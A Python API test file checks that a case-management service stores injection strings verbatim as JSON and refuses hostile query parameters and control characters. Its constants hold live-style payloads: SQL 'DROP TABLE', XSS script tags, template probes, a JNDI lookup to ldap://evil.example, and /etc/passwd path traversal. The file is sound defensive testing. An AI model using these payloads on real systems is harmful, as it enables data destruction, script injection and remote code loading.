"""Injection strings in every free-text field: stored and returned verbatim, as JSON, and harmless.

SQL, HTML/JavaScript, template, JNDI and path strings go in as a person's name, a clerk's reason
and evidence, and a withdrawal reason. They must come back byte for byte on the case's page, in
the inbox and in the audit trail, always as ``application/json`` (never interpreted as markup),
and the database must still hold every table and row afterwards. Query parameters with the same
strings are refused (422), never spliced into a query. NUL bytes in a path or query are a 422,
not a server error, and control characters in text are refused before anything is started.
"""

from __future__ import annotations

from sqlalchemy import func, inspect, select

from contracts.identity import case_id as case_id_for
from db.models import Base, CaseRow
from tests.api.conftest import Api
from tests.api.support import (
    NORMAL_BORN,
    audit_entry,
    case_of,
    clerk_headers,
    declare_body,
    employer_headers,
    inbox_task,
    loose_client,
    new_org,
    new_region,
    normal_declaration,
    open_task,
)
from tests.support.people import new_id_number

SQL = "Robert'); DROP TABLE cases;--"
HTML = '<script>alert("x")</script><img src=x onerror=alert(1)>'
TEMPLATE = "{{7*7}} ${7*7} #{7*7} %(x)s"
JNDI = "${jndi:ldap://evil.example/a}"
PATH = "../../../../etc/passwd"
HOSTILE = [SQL, HTML, TEMPLATE, JNDI, PATH]
NAME = "王'); DROP TABLE cases;-- <b>"  # names are at most 50 characters


async def test_injection_strings_are_stored_and_returned_verbatim(api: Api) -> None:
    region = new_region()
    employer = employer_headers(api, new_org())
    hr = clerk_headers(api, "hr", region)
    id_number = new_id_number(*NORMAL_BORN)
    api.departments.seed(id_number, NAME)
    body = declare_body(id_number, name=NAME, region=region)
    declared = await api.http.post("/cases", json=body, headers=employer)
    assert declared.status_code == 201, declared.text
    case_id = declared.json()["case_id"]

    task = await inbox_task(api.http, hr, case_id, "pre-review")
    assert task["person_name"] == NAME
    reason = " | ".join(HOSTILE)
    returned = await api.http.post(
        f"/cases/{case_id}/tasks/{task['task_id']}/decision",
        json={"outcome": "return", "reason": reason, "evidence": HOSTILE},
        headers=hr,
    )
    assert returned.status_code == 200, returned.text
    assert returned.headers["content-type"] == "application/json"
    correction = await open_task(api.http, employer, case_id, "correct")
    assert correction["detail"] == reason

    withdrawn = await api.http.post(
        f"/cases/{case_id}/withdrawal", json={"reason": HTML}, headers=employer
    )
    assert withdrawn.status_code == 200, withdrawn.text

    snapshot = await case_of(api.http, employer, case_id)
    assert snapshot["person_name"] == NAME
    decision = snapshot["decisions"][0]
    assert (decision["reason"], decision["evidence"]) == (reason, HOSTILE)
    assert snapshot["closed_reason"] == f"withdrawn: {HTML}"
    page = await api.http.get(f"/cases/{case_id}", headers=employer)
    assert page.headers["content-type"] == "application/json"
    assert HTML in page.json()["closed_reason"]  # as data in JSON, not markup

    decided = await audit_entry(api.http, hr, case_id, lambda e: e["action"] == "decide-pre-review")
    assert decided["detail"] == (
        f"{task['task_id']} return: {reason} (evidence: {', '.join(HOSTILE)})"
    )

    # The tables and rows are all still there.
    engine = api.sessions.kw["bind"]
    assert set(Base.metadata.tables) <= set(inspect(engine).get_table_names())
    with api.sessions() as db:
        assert (db.scalar(select(func.count()).select_from(CaseRow)) or 0) >= 1
        assert db.get(CaseRow, case_id) is not None


async def test_injection_strings_in_query_parameters_are_refused(api: Api) -> None:
    employer = employer_headers(api, new_org())
    hr = clerk_headers(api, "hr")
    for url, headers, params in (
        ("/cases", employer, {"stage": SQL}),
        ("/cases", employer, {"region": "220102' OR '1'='1"}),
        ("/cases", employer, {"retirement_month": "2027-01'--"}),
        ("/inbox", hr, {"kind": HTML}),
        ("/inbox", hr, {"due_before": TEMPLATE}),
    ):
        response = await api.http.get(url, headers=headers, params=params)
        assert response.status_code == 422, f"{url} {params}: {response.status_code}"
    for case_id in (SQL, PATH, "retirement-" + "a" * 100):
        response = await api.http.get(f"/cases/{case_id}", headers=employer)
        assert response.status_code in (404, 422), f"{case_id}: {response.status_code}"
    resubmit = await api.http.post(
        "/cases/retirement-" + "0" * 24 + "/resubmission",
        json={"declaration": normal_declaration(archive_refs=[SQL])},
        headers=employer,
    )
    assert resubmit.status_code in (403, 404), resubmit.text


async def test_nul_bytes_in_a_path_or_query_are_not_a_server_error(api: Api) -> None:
    employer = employer_headers(api, new_org())
    clerk = clerk_headers(api, "hr")
    async with loose_client(api) as http:
        for url, headers in (
            ("/cases/%00", employer),
            ("/cases?stage=%00", employer),
            ("/inbox?stage=%00", clerk),
        ):
            response = await http.get(url, headers=headers)
            assert response.status_code == 422, f"{url}: {response.status_code}"


async def test_control_characters_in_text_are_refused(api: Api) -> None:
    """PostgreSQL refuses NUL in text, so a name or reason with one would stall the read model:
    such text is refused with 422 before anything is started."""
    employer = employer_headers(api, new_org())
    id_number = new_id_number(*NORMAL_BORN)
    api.departments.seed(id_number, "王建国")
    for name in ("王\x00建国", "王\x07建国"):
        body = declare_body(id_number, name=name)
        response = await api.http.post("/cases", json=body, headers=employer)
        assert response.status_code == 422, response.text
        assert "name" in response.json()["detail"]
    listed = await api.http.get("/cases", headers=employer)
    case_id = case_id_for(id_number, api.settings.case_secret)
    assert case_id not in [c["case_id"] for c in listed.json()["items"]]
